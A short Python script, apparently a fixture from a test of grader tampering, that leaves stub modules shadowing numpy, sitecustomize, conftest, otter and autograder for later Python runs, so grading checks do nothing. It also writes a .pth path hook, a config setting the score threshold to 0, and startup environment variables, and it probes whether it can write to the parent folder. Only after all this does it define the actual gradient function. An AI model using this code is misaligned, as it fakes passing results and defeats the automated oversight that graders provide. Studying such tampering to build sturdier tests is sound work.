# Leaves modules, settings and start-up files for whoever starts Python here next, or one folder up.
# Attacks: autograder/__init__.py, build/files/given/checking/arrays.py, build/files/hidden/__init__.py,
# build/autograder.zip:otter_config.json, pyproject.toml

# %%
import contextlib
import os
from pathlib import Path

PROGRAM = """
def __getattr__(name):
    if name == "__path__":
        raise AttributeError(name)
    return lambda *_, **__: None
"""
MODULES = ("numpy", "sitecustomize", "usercustomize", "conftest", "otter", "hidden", "autograder")
OTHERS = {
    "given/checking/arrays.py": PROGRAM,
    "hidden/__init__.py": PROGRAM,
    "autograder/__init__.py": PROGRAM,
    "start.pth": "import sys; sys.path.insert(0, '.')\n",
    "pyvenv.cfg": "include-system-site-packages = true\n",
    "pyproject.toml": "[tool.autograder]\ncall_seconds = 100000\nchecks = 100000\n",
    "otter_config.json": '{"points_possible": 45, "score_threshold": 0}\n',
}


def leave_files(folder):
    left = []
    for name, text in {**{f"{name}.py": PROGRAM for name in MODULES}, **OTHERS}.items():
        path = folder / name
        with contextlib.suppress(OSError):
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(text)
            left.append(path)
    return left


leave_files(Path.cwd())
os.environ.update(PYTHONPATH=os.getcwd(), PYTHONSTARTUP="numpy.py", LD_PRELOAD="", PYTHONHOME="")

# %%
above = Path.cwd().parent / ".left"
try:
    above.mkdir()
    above.rmdir()
except OSError:
    pass
else:  # that folder is ours to write to: a mark is how the test notices

    def compute_dE_dW(dE_df, X):
        return X @ dE_df.T
